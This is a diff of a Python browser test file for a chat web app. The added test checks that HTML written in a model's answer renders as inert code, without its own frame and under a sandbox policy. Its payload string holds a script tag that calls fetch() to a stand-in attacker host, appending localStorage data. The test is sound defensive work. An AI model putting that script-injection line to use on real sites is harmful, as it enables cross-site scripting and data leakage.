@@ -1,4 +1,4 @@
-"""D01, D05: content that would like to be a script, or to tell another host something, in a real browser."""
+"""D01, D04, D05: content that would like to be a script, or to tell another host something, in a real browser."""
 
 import re
 from pathlib import Path
@@ -192,6 +192,24 @@ async def test_d05_an_image_from_elsewhere_is_a_link_that_names_its_host(browser
         await (await tab.value).wait_for_load_state()
         assert opened == [f"https://{EVIL}/chart.png?secret=1"]
         assert await (await tab.value).evaluate("window.opener") is None
+
+
+async def test_d04_a_page_in_an_answer_stays_code(browser: Browser, tmp_path: Path) -> None:
+    """There are no previews yet: a page that a model wrote is read, never run, and gets no frame of its own."""
+    written = f"<script>top.hit = 1; fetch('https://{EVIL}/' + localStorage.length)</script><h1>A chart</h1>"
+    async with running_provider() as provider, running_server(tmp_path) as server, person(browser) as someone:
+        await server.create_user(EMAIL, admin=True)
+        await server.add_provider("Sim", provider.url)
+        me = Watched(someone.page, someone.complaints)
+        await me.sign_in(server)
+        me.watch(server.url)
+        conversation = await _ask(me, f"```html\n{written}\n```\n\n{written}")
+        await me.page.goto(f"{server.url}/c/{conversation}")
+        await expect(me.answers.last.locator("pre")).to_contain_text("A chart")
+        assert [frame.url for frame in me.page.frames] == [me.page.url]
+        reply = await me.page.request.get(f"{server.url}/api/conversations/{conversation}/messages")
+        assert reply.headers["content-security-policy"].endswith("sandbox")
+        await me.assert_untouched()
 
 
 async def _opened(route: Any, opened: list[str]) -> None:
